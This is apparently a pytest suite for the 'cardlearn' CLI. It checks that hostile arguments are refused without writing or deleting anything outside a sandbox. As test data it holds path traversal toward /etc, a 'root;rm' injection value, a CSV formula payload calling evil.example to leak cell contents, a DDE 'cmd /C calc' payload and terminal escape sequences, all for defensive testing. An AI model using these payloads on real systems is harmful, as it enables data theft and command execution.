"""Every ``cardlearn`` subcommand, run as a program with hostile arguments: exit status 2, one
localized line on stderr, no traceback, and nothing written or deleted anywhere.

Each command runs in a subprocess inside a sandbox folder (its own HOME, TMPDIR, current folder
and a PATH without configurable-http-proxy or npm). As this machine's tests may run as root,
where read-only folders protect nothing, the subprocess also installs an audit hook
(:func:`sys.addaudithook`) that refuses any write, delete, rename or new process outside the
sandbox: even if a path check failed, ``//etc`` or a symlink to ``/etc`` could not be touched,
and the test would see the hook's traceback instead of the refusal.
"""
from __future__ import annotations

import os
import re
import string
import subprocess
import sys
from pathlib import Path

import pytest

from cardlearn.i18n import t

GUARD = r'''
import os, sys
_ALLOWED = [os.path.realpath(p) for p in os.environ["CARDLEARN_TEST_SANDBOX"].split(os.pathsep)]
_WRITE = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
_CHANGES = {"os.mkdir", "os.remove", "os.rmdir", "os.rename", "os.chmod", "os.chown", "os.symlink",
            "os.link", "os.truncate", "shutil.rmtree", "os.utime", "shutil.copyfile", "shutil.move"}
_PROCESSES = {"subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.system", "os.fork", "os.startfile"}
# Every refused attempt is also logged (the test reads the log: an attempt is a failure however it was handled).
_LOG = os.open(os.environ["CARDLEARN_TEST_GUARD_LOG"], os.O_WRONLY | os.O_APPEND)


def _refuse(what):
    os.write(_LOG, (what + "\n").encode("utf-8", "backslashreplace"))
    raise PermissionError("sandbox: " + what)


def _inside(path):
    if isinstance(path, int):
        return True  # an open file descriptor: opening it was checked
    real = os.path.realpath(os.fsdecode(path))
    return any(real == root or real.startswith(root + os.sep) for root in _ALLOWED)


def _hook(event, args):
    if event == "open":
        path, mode, flags = args
        writing = any(c in mode for c in "wax+") if isinstance(mode, str) else bool((flags or 0) & _WRITE)
        if path is not None and writing and not _inside(path):
            _refuse("write to " + str(path))
    elif event in _CHANGES:
        for path in args[:2] if event in ("os.rename", "os.symlink", "os.link", "shutil.copyfile",
                                           "shutil.move") else args[:1]:
            if not _inside(path):
                _refuse(event + " " + str(path))
    elif event in _PROCESSES:
        _refuse("no new processes (" + event + ")")


sys.addaudithook(_hook)
'''
RUN_CLI = "from cardlearn.cli import main\nsys.exit(main(sys.argv[1:]))\n"


class Sandbox:
    """A folder the subprocess may write in, with HOME, TMPDIR and the current folder inside it."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.home, self.tmp, self.work, self.bin = (root / name for name in ("home", "tmp", "work", "bin"))
        for folder in (self.home, self.tmp, self.work, self.bin):
            folder.mkdir()
        (self.home / "notes.txt").write_text("mine", encoding="utf-8")  # a home is never empty
        self.log = root / "guard.log"  # what the guard refused (it stays empty when every check holds)
        self.log.write_text("", encoding="utf-8")
        (self.work / "essay.txt").write_text("mine", encoding="utf-8")

    def run(self, *argv: str) -> subprocess.CompletedProcess[str]:
        """``cardlearn ARGV`` in the sandbox (language of messages from --lang, else English)."""
        return self.python(RUN_CLI, *argv)

    def python(self, code: str, *argv: str) -> subprocess.CompletedProcess[str]:
        """Python ``code`` (with ``argv``) in the sandbox, under the guard."""
        env = {"HOME": str(self.home), "TMPDIR": str(self.tmp), "PATH": str(self.bin), "LANG": "C.UTF-8",
               "PYTHONDONTWRITEBYTECODE": "1", "CARDLEARN_TEST_SANDBOX": str(self.root),
               "CARDLEARN_TEST_GUARD_LOG": str(self.log),
               "PYTHONPATH": os.pathsep.join(sys.path)}
        return subprocess.run([sys.executable, "-c", GUARD + code, *argv], cwd=self.work, env=env, capture_output=True,
                              text=True, timeout=300, check=False)


def snapshot(*folders: Path) -> dict[str, tuple[int, int]]:
    """Every path under ``folders`` (not following symlinks) with its size and modification time,
    and each folder's own entry: what "nothing written" compares."""
    seen: dict[str, tuple[int, int]] = {}
    for folder in folders:
        info = os.lstat(folder)
        seen[str(folder)] = (info.st_size, info.st_mtime_ns)
        if not folder.is_dir() or folder.is_symlink():
            continue
        for top, dirs, names in os.walk(folder):
            for name in dirs + names:
                path = os.path.join(top, name)
                info = os.lstat(path)
                seen[path] = (info.st_size, info.st_mtime_ns)
    return seen


def literal_part(key: str, lang: str) -> str:
    """The longest run of a catalog message's own words (between placeholders): what the line must show."""
    from cardlearn.i18n.catalog import load_catalog

    template = load_catalog(lang).entries[key].forms[0]
    parts = [literal for literal, _, _, _ in string.Formatter().parse(template)]
    return max((p.strip(" .,:;()“”»«") for p in parts), key=len)


def assert_refused(done: subprocess.CompletedProcess[str], key: str, lang: str) -> str:
    """Exit status 2 and exactly one line on stderr: the catalog message ``key`` in ``lang``."""
    lines = done.stderr.splitlines()
    assert done.returncode == 2, done.stderr
    assert len(lines) == 1, done.stderr
    assert "Traceback" not in done.stderr and "sandbox:" not in done.stderr
    assert literal_part(key, lang) in lines[0], (key, lines[0])
    return lines[0]


def answers_folder(sandbox: Sandbox) -> Path:
    """A folder with one learner's real answers file (so a report would get as far as writing)."""
    from cardlearn.exercises import AnswerBook, exercise

    folder = sandbox.root / "answers"
    exercise("bridge.undertricks.001", answers=AnswerBook(folder / "ana.json", learner="Ana")).check(-100)
    return folder


@pytest.fixture
def sandbox(tmp_path: Path) -> Sandbox:
    return Sandbox(tmp_path)


@pytest.fixture
def links(sandbox: Sandbox) -> dict[str, Path]:
    """Symlinks in the sandbox that lead out of it, into system folders."""
    made = {"etc": sandbox.work / "to-etc", "usrlib": sandbox.work / "to-usr-lib"}
    made["etc"].symlink_to("/etc")
    made["usrlib"].symlink_to("/usr/lib")
    return made


def system_targets(links: dict[str, Path]) -> list[tuple[str, Path]]:
    """(argument, the system folder it really names): ``//``, a symlink, and ``..`` after a symlink
    (the text reads as a folder in the sandbox; the system resolves the link first: ``/usr/cardlearn-x``)."""
    return [("//etc", Path("/etc")),
            (str(links["etc"]), Path("/etc")),
            (str(links["usrlib"]) + "/../cardlearn-x", Path("/usr")),
            ("/tmp/../etc/cardlearn", Path("/etc"))]


# ------------------------------------------------------------------------- system folders


@pytest.mark.parametrize("command", [
    ["lessons", "--lang", "da", "--no-open", "--dest"],
    ["hub", "lessons", "--lang", "da", "--dest"],
    ["exercises", "report", "ANSWERS", "--lang", "da", "--out"],
    ["hub", "serve", "--lang", "da", "--dir"],
    ["lite", "build", "--lang", "da", "--out"],
])
def test_a_system_folder_however_written_is_refused_by_every_command(
        command: list[str], sandbox: Sandbox, links: dict[str, Path]) -> None:
    command = [str(answers_folder(sandbox)) if word == "ANSWERS" else word for word in command]
    for argument, system in system_targets(links):
        before = snapshot(sandbox.root, system)
        done = sandbox.run(*command, argument)
        line = assert_refused(done, "paths.system", "da")
        assert argument in line
        assert snapshot(sandbox.root, system) == before, argument


@pytest.mark.parametrize("command", [
    ["lessons", "--lang", "tr", "--no-open", "--dest"],
    ["hub", "lessons", "--lang", "tr", "--dest"],
    ["exercises", "report", "ANSWERS", "--lang", "tr", "--out"],
    ["hub", "serve", "--lang", "tr", "--dir"],
    ["lite", "build", "--lang", "tr", "--out"],
])
def test_a_file_where_a_folder_is_expected_is_refused(command: list[str], sandbox: Sandbox) -> None:
    command = [str(answers_folder(sandbox)) if word == "ANSWERS" else word for word in command]
    for argument in ("essay.txt", "essay.txt/inside", "essay.txt/../essay.txt/x"):
        before = snapshot(sandbox.root)
        done = sandbox.run(*command, argument)
        assert_refused(done, "paths.is_file", "tr")
        assert snapshot(sandbox.root) == before, argument


def test_deals_out_in_a_system_folder_is_refused(sandbox: Sandbox, links: dict[str, Path]) -> None:
    """``cardlearn deals --out FILE`` writes a file: the same path policy as every other command."""
    for argument, system in system_targets(links):
        before = snapshot(sandbox.root, system)
        done = sandbox.run("deals", "hold_up", "--boards", "1", "--lang", "da", "--out", argument + "/deals.pbn")
        assert_refused(done, "paths.system", "da")
        assert snapshot(sandbox.root, system) == before, argument


API_CALLS = {
    "copy_lessons": "from cardlearn.classroom.lessons import copy_lessons as f; f('da', TARGET)",
    "copy_missing_lessons": "from cardlearn.classroom.hub import copy_missing_lessons as f; f('da', Path(TARGET))",
    "write_report": "from cardlearn.exercises.report import write_report as f; f(ANSWERS, TARGET, 'da')",
    "write_hub": "from cardlearn.classroom.hub import HubSettings, write_hub as f; f(HubSettings(dir=TARGET))",
    "build_site": "from cardlearn.classroom.lite import build_site as f; f('da', TARGET)",
    "BridgeTable.save": "from cardlearn.widgets import BridgeTable; BridgeTable(seed=1).save(TARGET + '/game.json')",
    "JassTable.save": "from cardlearn.widgets import JassTable; JassTable(seed=1).save(TARGET + '/match.json')",
}


@pytest.mark.parametrize("call", sorted(API_CALLS))
def test_python_entry_points_that_write_follow_the_same_policy(call: str, sandbox: Sandbox,
                                                               links: dict[str, Path]) -> None:
    code = ("from pathlib import Path\nfrom cardlearn.engine.paths import PathRefused\n"
            "TARGET, ANSWERS = sys.argv[1], sys.argv[2]\n"
            f"try:\n    {API_CALLS[call]}\nexcept PathRefused as error:\n"
            "    print(error.key, error.localized('ko'))\n    sys.exit(2)\n")
    answers = str(answers_folder(sandbox))
    for argument, system in system_targets(links)[::2]:  # "//etc" and ".." after a symlink
        before = snapshot(sandbox.root, system)
        done = sandbox.python(code, argument, answers)
        assert done.returncode == 2 and done.stdout.startswith("paths.system "), (argument, done.stderr)
        assert literal_part("paths.system", "ko") in done.stdout
        assert snapshot(sandbox.root, system) == before, argument


def test_an_answers_file_in_a_system_folder_counts_nothing(sandbox: Sandbox, links: dict[str, Path]) -> None:
    (sandbox.work / "answers.json").symlink_to("/etc/cardlearn-answers.json")  # a link to a new file in /etc
    code = ("from cardlearn.exercises import ExerciseError, exercise\n"
            "try:\n    exercise('bridge.undertricks.001', answers=sys.argv[1]).check(-100)\n"
            "except ExerciseError as error:\n    print(error.key)\n    sys.exit(2)\n")
    for argument in ("answers.json", "//etc/cardlearn-answers.json", str(links["etc"]) + "/cardlearn.json"):
        before = snapshot(sandbox.root, Path("/etc"))
        done = sandbox.python(code, argument)
        assert sandbox.log.read_text(encoding="utf-8") == "", "cardlearn tried to write outside the sandbox"
        assert done.returncode == 2 and done.stdout.strip() == "exercises.answers.not_writable", done.stderr
        assert snapshot(sandbox.root, Path("/etc")) == before


# ------------------------------------------------------------------------- lite: never delete what is not ours


def test_lite_never_replaces_a_folder_cardlearn_did_not_build(sandbox: Sandbox) -> None:
    foreign = sandbox.work / "my-site"
    foreign.mkdir()
    (foreign / "index.html").write_text("my own page", encoding="utf-8")
    cases = [(".", "paths.replace_home"), ("..", "paths.replace_home"), ("~", "paths.replace_home"),
             (str(sandbox.home), "paths.replace_home"), ("my-site", "paths.foreign"),
             ("my-site/", "paths.foreign"), (str(sandbox.tmp / ".." / "work" / "my-site"), "paths.foreign")]
    for argument, key in cases:
        before = snapshot(sandbox.root)
        done = sandbox.run("lite", "build", "--lang", "ko", "--out", argument)
        assert_refused(done, key, "ko")
        assert snapshot(sandbox.root) == before, argument
    assert (foreign / "index.html").read_text(encoding="utf-8") == "my own page"


def test_lite_download_cache_follows_the_policy_too(sandbox: Sandbox, links: dict[str, Path]) -> None:
    for argument, system in system_targets(links)[:2]:
        before = snapshot(sandbox.root, system)
        assert_refused(sandbox.run("lite", "build", "--lang", "da", "--out", "site", "--cache", argument),
                       "paths.system", "da")
        assert snapshot(sandbox.root, system) == before


# ------------------------------------------------------------------------- hub arguments


@pytest.mark.parametrize(("arguments", "key"), [
    (["--mem-limit", "banana"], "classroom.hub.bad_mem"),
    (["--mem-limit", "512"], "classroom.hub.bad_mem"),  # bytes: no JupyterLab starts in 512 bytes
    (["--mem-limit=-1G"], "classroom.hub.bad_mem"),  # "-1G" alone reads as an option
    (["--teacher", "Ms Smith"], "classroom.hub.bad_teacher"),
    (["--teacher", "root;rm"], "classroom.hub.bad_teacher"),
    (["--teacher", ""], "classroom.hub.bad_teacher"),
    (["--idle-timeout", "-5"], "classroom.hub.bad_number"),
    (["--idle-timeout", "soon"], "classroom.hub.bad_number"),
    (["--cpu-limit", "-1"], "classroom.hub.bad_number"),
    (["--cpu-limit", "nan"], "classroom.hub.bad_number"),
    (["--port", "70000"], "classroom.hub.bad_number"),
    (["--port", "0"], "classroom.hub.bad_number"),
    (["--port", "80.5"], "classroom.hub.bad_number"),
    (["--hub-port", "abc"], "classroom.hub.bad_number"),
    (["--port", "8001"], "classroom.hub.same_ports"),
    (["--ip", "127.0.0.1@0.0.0.0"], "classroom.hub.bad_ip"),
    (["--ip", "0.0.0.0 --debug"], "classroom.hub.bad_ip"),
    (["--ip", ""], "classroom.hub.bad_ip"),
    (["--ssl-cert", "missing.pem", "--ssl-key", "missing.key"], "classroom.hub.ssl_file"),
    (["--ssl-cert", ".", "--ssl-key", "essay.txt"], "classroom.hub.ssl_file"),
    (["--auth", "ldap"], "cli.error.choice"),
    (["--lang", "xx"], "cli.error.lang"),
])
def test_hub_arguments_are_checked_before_anything_is_written_or_started(
        arguments: list[str], key: str, sandbox: Sandbox) -> None:
    before = snapshot(sandbox.root)
    done = sandbox.run("hub", "serve", "--lang", "th", "--demo", *arguments)
    assert_refused(done, key, "th")  # the first readable --lang is the teacher's
    assert snapshot(sandbox.root) == before
    assert not (sandbox.work / "cardlearn-hub").exists()


# ------------------------------------------------------------------------- --lang, one reader


@pytest.mark.parametrize("lang", ["TH", "th-TH", "Th_th"])
def test_lang_is_read_like_the_api_by_every_subcommand(lang: str, sandbox: Sandbox) -> None:
    from cardlearn.exercises import AnswerBook, exercise

    book = sandbox.root / "answers" / "ana.json"
    exercise("bridge.undertricks.001", answers=AnswerBook(book, learner="Ana")).check(-100)
    done = sandbox.run("exercises", "report", str(book), "--out", "report", "--lang", lang)
    assert done.returncode == 0, done.stderr
    assert '<html lang="th">' in (sandbox.work / "report" / "report.html").read_text(encoding="utf-8")
    done = sandbox.run("hub", "lessons", "--lang", lang, "--dest", "lessons-th")
    assert done.returncode == 0, done.stderr
    assert (sandbox.work / "lessons-th" / "01-bridge-table.ipynb").is_file()
    assert (sandbox.work / "lessons-th" / "01-bridge-table.ipynb").read_bytes() == \
        (Path(__file__).resolve().parents[1] / "lessons" / "th" / "01-bridge-table.ipynb").read_bytes()
    # hub serve and lite build read --lang, then stop at what this sandbox lacks (proxy, downloads)
    done = sandbox.run("hub", "serve", "--lang", lang, "--demo")
    missing = (literal_part("classroom.hub.no_proxy", "th"), literal_part("classroom.hub.missing", "th"))
    assert done.returncode == 1 and any(text in done.stderr for text in missing), done.stderr
    done = sandbox.run("lite", "build", "--lang", lang, "--out", "site")
    assert done.returncode == 1 and len(done.stderr.splitlines()) == 1, done.stderr
    assert "Traceback" not in done.stderr and not (sandbox.work / "site").exists()


@pytest.mark.parametrize("command", [
    ["exercises", "check", "x.toml"], ["exercises", "report", "x.json", "--out", "o"],
    ["lessons", "--no-open"], ["hub", "serve"], ["hub", "lessons", "--dest", "d"], ["lite", "build"],
])
def test_an_unknown_language_is_one_line_from_every_subcommand(command: list[str], sandbox: Sandbox) -> None:
    before = snapshot(sandbox.root)
    done = sandbox.run(*command, "--lang", "klingon")
    assert "klingon" in assert_refused(done, "cli.error.lang", "en")
    assert snapshot(sandbox.root) == before


@pytest.mark.parametrize(("argv", "key"), [
    (["lessons", "--lang", "da", "--bogus"], "cli.error.unrecognized"),
    (["lessons", "--lang", "da", "--dest"], "cli.error.needs_value"),
    (["hub", "lessons", "--lang", "da"], "cli.error.required"),
    (["hub", "serve", "--lang", "da", "--ai", "godlike"], "cli.error.choice"),
    (["lab", "no-such-folder", "--lang", "da"], "cli.error.no_folder"),
    (["lab", "--lang", "da", "--bogus"], "cli.error.unrecognized"),
])
def test_usage_errors_are_one_line_in_the_teachers_language(argv: list[str], key: str, sandbox: Sandbox) -> None:
    before = snapshot(sandbox.root)
    assert_refused(sandbox.run(*argv), key, "da")
    assert snapshot(sandbox.root) == before


def test_missing_inputs_are_usage_errors(sandbox: Sandbox) -> None:
    before = snapshot(sandbox.root)
    assert_refused(sandbox.run("lab", "no-such-folder"), "cli.error.no_folder", "en")
    assert_refused(sandbox.run("exercises", "report", "nobody.json", "--out", "o", "--lang", "ko"),
                   "exercises.report.no_such_file", "ko")
    assert snapshot(sandbox.root) == before


# ------------------------------------------------------------------------- output for other programs


def _answers(folder: Path, learner: str, answer: object, correct: bool) -> Path:
    import json

    path = folder / f"{abs(hash(learner))}.json"
    lines = [{"format": "cardlearn-answers", "version": 2, "learner": learner},
             {"event": "attempt", "exercise": "bridge.undertricks.001", "answer": answer, "correct": correct}]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return path


def test_learner_text_reaches_the_terminal_and_the_spreadsheet_inert(sandbox: Sandbox) -> None:
    import csv

    folder = sandbox.root / "collected"
    folder.mkdir()
    _answers(folder, '=HYPERLINK("http://evil.example/?"&A1)\x1b]0;owned\x07\x1b[2J', -100, True)
    _answers(folder, "-2+3+cmd|' /C calc'!A0\u202e", "@SUM(A1:A9)", False)
    _answers(folder, "\tTab", "+1", False)
    done = sandbox.run("exercises", "report", str(folder), "--out", "report", "--lang", "en")
    assert done.returncode == 0, done.stderr
    # The terminal: no escape, bell or bidi override reaches it; they are shown by their code.
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", done.stdout)
    assert "U+001B" in done.stdout and "U+202E" in done.stdout
    with (sandbox.work / "report" / "report.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    learners = {row[0] for row in rows[1:]}
    assert all(not str(name).startswith(("=", "+", "-", "@", "\t")) for name in learners)
    assert "'-2+3+cmd|' /C calc'!A0\u202e" in learners
    last = rows[0].index("last_answer")
    answers = {row[0]: row[last] for row in rows[1:]}
    assert answers["'-2+3+cmd|' /C calc'!A0\u202e"] == "'@SUM(A1:A9)"
    # A number stays a number: -100 in ASCII and unquoted (text cells are quoted), not "−100".
    text = (sandbox.work / "report" / "report.csv").read_text(encoding="utf-8")
    assert ",-100\n" in text.replace("\r\n", "\n") and "\u2212" not in text
    assert "-100" in answers.values() and '"bridge.undertricks.001"' in text


def test_messages_with_control_characters_in_a_path_stay_one_line(sandbox: Sandbox) -> None:
    argument = "essay.txt/\x1b[31mred\nsecond line"
    done = sandbox.run("lessons", "--lang", "da", "--no-open", "--dest", argument)
    line = assert_refused(done, "paths.is_file", "da")
    assert "\x1b" not in done.stderr and "U+001B" in line and "U+000A" in line


def test_every_new_message_is_translated() -> None:
    for key in ("paths.system", "paths.foreign", "classroom.hub.bad_teacher", "cli.error.required"):
        texts = {lang: t(key, lang, path="p", system="/etc", marker="m", teacher="x", options="--lang",
                         command="cardlearn") for lang in ("en", "th", "ko", "da", "tr")}
        assert len(set(texts.values())) == 5, key
